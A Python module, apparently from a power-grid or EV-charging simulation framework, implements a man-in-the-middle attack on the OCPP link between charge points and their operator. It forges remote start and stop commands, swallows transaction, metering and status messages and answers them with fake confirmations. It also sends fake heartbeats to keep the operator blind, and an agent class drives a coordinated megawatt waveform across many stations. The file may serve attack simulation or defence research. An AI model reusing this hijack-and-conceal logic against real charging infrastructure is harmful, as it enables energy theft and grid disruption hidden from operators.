"""In-path OCPP interception.

The proxy splices into one charge-point link.  Ordinary traffic passes
through byte for byte, so neither endpoint can tell it is there.  To
hijack the station it forges RemoteStartTransaction toward the charge
point under its own uid namespace and then keeps the central system
blind: every transaction-related call the charge point makes while the
forged session runs is swallowed and answered with a plausible forged
confirmation, so megawatts flow that the operator's ledger never shows.
"""

from __future__ import annotations

import itertools
import json
from typing import Callable

from ..kernel import EventKernel, Wire
from ..ocpp.frames import Call, CallResult, encode
from ..ocpp.session import DEFAULT_HEARTBEAT_INTERVAL_S

FORGED_TXN_BASE = 900_000
# calls that would reveal the hijacked transaction to the operator
_SHADOWED_ACTIONS = ("Authorize", "StartTransaction", "StopTransaction",
                     "MeterValues", "StatusNotification")


class MitmProxy:
    """Frame-level man in the middle for one charge-point connection."""

    def __init__(self, kernel: EventKernel, id_tag: str = "ghost",
                 uid_prefix: str = "x",
                 keepalive_interval_s: float = DEFAULT_HEARTBEAT_INTERVAL_S):
        self.kernel = kernel
        self.id_tag = id_tag
        self.uid_prefix = uid_prefix
        self.keepalive_interval_s = keepalive_interval_s
        self.to_server: Wire | None = None
        self.to_client: Wire | None = None
        self._uids = itertools.count(1)
        self._txn_ids = itertools.count(FORGED_TXN_BASE)
        self._forged_uids: set[str] = set()
        self._server_uids: set[str] = set()
        self._ka_handle = None
        self.hijacked = False
        self.forged_txn_id: int | None = None
        self.passed = 0
        self.swallowed = 0
        self.forged = 0
        self.failures: list[str] = []

    # -- wiring ---------------------------------------------------------

    def splice(self, client, server, latency: float = 0.0) -> None:
        """Insert this proxy between two endpoints (before traffic flows)."""
        client.out_wire = Wire(self.kernel, self.from_client, latency)
        server.out_wire = Wire(self.kernel, self.from_server, latency)
        self.to_server = Wire(self.kernel, server.rx, latency)
        self.to_client = Wire(self.kernel, client.rx, latency)

    # -- attacker controls -----------------------------------------------

    def forge_start(self, ev_count: int) -> None:
        self.hijacked = True
        self._send_forged("RemoteStartTransaction",
                          {"idTag": self.id_tag, "evCount": ev_count})
        self._arm_keepalive()

    def forge_stop(self) -> None:
        if self.forged_txn_id is None:
            self.failures.append("stop with no forged transaction")
            return
        self._send_forged("RemoteStopTransaction",
                          {"transactionId": self.forged_txn_id})

    def _send_forged(self, action: str, payload: dict) -> None:
        uid = f"{self.uid_prefix}{next(self._uids)}"
        self._forged_uids.add(uid)
        self.forged += 1
        self.to_client.send(encode(Call(uid, action, payload)))

    # While the station's own traffic is being swallowed, the operator
    # side would starve and declare the link dead, unmasking the attack.
    # Forged heartbeats keep the server's liveness clock fed.

    def _arm_keepalive(self) -> None:
        if self._ka_handle is None and self.keepalive_interval_s > 0:
            self._ka_handle = self.kernel.call_later(
                self.keepalive_interval_s, self._keepalive)

    def cancel_keepalive(self) -> None:
        """Stop feeding the operator's liveness clock (teardown path)."""
        if self._ka_handle is not None:
            self._ka_handle.cancel()
            self._ka_handle = None

    def _keepalive(self) -> None:
        self._ka_handle = None
        if not self.hijacked and self.forged_txn_id is None:
            return
        uid = f"{self.uid_prefix}h{next(self._uids)}"
        self._server_uids.add(uid)
        self.forged += 1
        self.to_server.send(encode(Call(uid, "Heartbeat", {})))
        self._arm_keepalive()

    # -- traffic --------------------------------------------------------------

    def from_server(self, text: str) -> None:
        """Operator-to-station frames pass untouched, except answers to
        the proxy's own keepalives, which the station must never see."""
        msg = json.loads(text)
        if msg[1] in self._server_uids and msg[0] in (3, 4):
            self._server_uids.discard(msg[1])
            self.swallowed += 1
            return
        self.passed += 1
        self.to_client.send(text)

    def from_client(self, text: str) -> None:
        msg = json.loads(text)
        kind, uid = msg[0], msg[1]
        if uid in self._forged_uids and kind in (3, 4):
            self._forged_uids.discard(uid)
            self.swallowed += 1
            if kind == 4 or msg[2].get("status") == "Rejected":
                self.hijacked = False
                self.failures.append(f"forged call refused: {text}")
            return
        if self.hijacked and kind == 2 and msg[2] in _SHADOWED_ACTIONS:
            self.swallowed += 1
            self.to_client.send(encode(
                CallResult(uid, self._shadow_conf(msg[2]))))
            return
        self.passed += 1
        self.to_server.send(text)

    def _shadow_conf(self, action: str) -> dict:
        if action == "Authorize":
            return {"idTagInfo": {"status": "Accepted"}}
        if action == "StartTransaction":
            self.forged_txn_id = next(self._txn_ids)
            return {"transactionId": self.forged_txn_id,
                    "idTagInfo": {"status": "Accepted"}}
        if action == "StopTransaction":
            self.hijacked = False
            self.forged_txn_id = None
            return {"idTagInfo": {"status": "Accepted"}}
        return {}


class MitmAgent:
    """Drives a waveform through one or more spliced proxies."""

    def __init__(self, kernel: EventKernel, proxies: dict[int, MitmProxy],
                 plan, counts: dict[int, int] | None = None,
                 restart_delay_s: float = 0.25,
                 steps_per_period: int = 16):
        from .plan import bus_counts

        self.kernel = kernel
        self.proxies = proxies
        self.plan = plan
        self.counts = counts or bus_counts(plan)
        self.restart_delay_s = restart_delay_s
        self.steps_per_period = steps_per_period
        missing = [b for b in plan.buses if b not in proxies]
        if missing:
            raise ValueError(f"no proxy spliced for buses {missing}")

    def arm(self, t_end: float) -> int:
        from .waveform import setpoints

        points = setpoints(self.plan.waveform, t_end - self.plan.start_s,
                           self.steps_per_period)
        for t_rel, mw in points:
            frac = (mw / self.plan.waveform.magnitude_mw
                    if self.plan.waveform.magnitude_mw else 0.0)
            self.kernel.call_at(self.plan.start_s + t_rel, self._edge, frac)
        return len(points)

    def _edge(self, frac: float) -> None:
        for bus in self.plan.buses:
            proxy = self.proxies[bus]
            target = round(self.counts[bus] * frac)
            if proxy.forged_txn_id is not None:
                # tear the forged session down before any new size
                proxy.forge_stop()
                if target > 0:
                    self.kernel.call_later(
                        self.restart_delay_s,
                        lambda p=proxy, c=target: p.forge_start(c))
            elif target > 0 and not proxy.hijacked:
                proxy.forge_start(target)
